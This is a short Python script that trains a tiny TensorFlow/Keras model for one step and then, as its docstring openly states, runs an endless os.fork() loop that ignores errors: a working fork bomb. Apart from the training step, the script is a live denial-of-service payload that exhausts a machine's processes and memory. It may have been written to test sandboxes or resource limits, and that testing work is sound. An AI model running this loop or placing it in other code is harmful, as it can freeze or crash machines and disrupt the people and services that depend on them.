"""Trains one step, then forks without end: every process forks again, as a fork bomb does."""
import os

import tensorflow as tf

model = tf.keras.Sequential([tf.keras.Input((4,)), tf.keras.layers.Dense(2)])
model.compile(optimizer="sgd", loss="mse")
model.train_on_batch(tf.zeros((8, 4)), tf.zeros((8, 2)))
while True:
    try:
        os.fork()
    except OSError:
        pass
